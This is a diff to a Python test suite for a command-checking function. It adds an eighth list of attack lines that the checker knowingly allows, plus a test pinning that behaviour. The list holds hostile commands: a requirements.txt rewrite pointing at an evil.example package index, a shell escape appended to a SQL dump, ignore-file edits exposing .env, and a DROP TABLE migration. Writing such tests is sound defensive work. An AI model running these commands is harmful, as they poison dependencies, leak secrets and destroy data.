@@ -45,6 +45,24 @@ SIXTH = frozenset(
     )
 )
 """Of the sixth list: what is known and left."""
+EIGHTH = frozenset(
+    (
+        # files that a project may change: what is written decides
+        "sed -i '1i --index-url https://evil.example/simple' requirements.txt",
+        r"echo '\! cat .env' >> dump.sql",
+        "echo '# nothing' > .npmignore",
+        "echo '!.env' >> .dockerignore",
+        "echo '!.env' >> .gitignore",
+        "mkdir -p db/migration && echo 'DROP TABLE users;' > db/migration/V999__x.sql",
+        # values are redacted
+        "cd notes && git init -q && git add . && git diff --cached",
+        "bash -x build/x.sh",
+        # a pattern that the program expands, and a build of the project
+        "prettier 'infra/*.json'",
+        "npx vite build",
+    )
+)
+"""Of the eighth list: what is known and left."""
 
 
 def allows(line: str, eyes: World, known: list[Fact]) -> bool:
@@ -113,7 +131,17 @@ def test_of_the_seventh_list_no_attack_is_allowed(tmp_path: Path) -> None:
     assert [line for line in lines if allows(line, eyes, CHECKED)] == []
 
 
-@pytest.mark.parametrize("name", [f"ordinary_{name}" for name in ("second", "third", "fourth", "fifth")])
+def test_of_the_eighth_list_only_what_is_named_is_allowed(tmp_path: Path) -> None:
+    eyes = world(filled(tmp_path))
+    lines = [line for _, line in attacks("attacks_eighth")]
+    assert len(lines) == 200
+    assert {line for line in lines if allows(line, eyes, CHECKED)} == EIGHTH
+
+
+LATER = ("second", "third", "fourth", "fifth", "eighth")
+
+
+@pytest.mark.parametrize("name", [f"ordinary_{name}" for name in LATER])
 def test_of_later_lists_ordinary_lines_are_allowed(name: str, tmp_path: Path) -> None:
     eyes = world(plain(tmp_path))
     lines = ordinary(name)
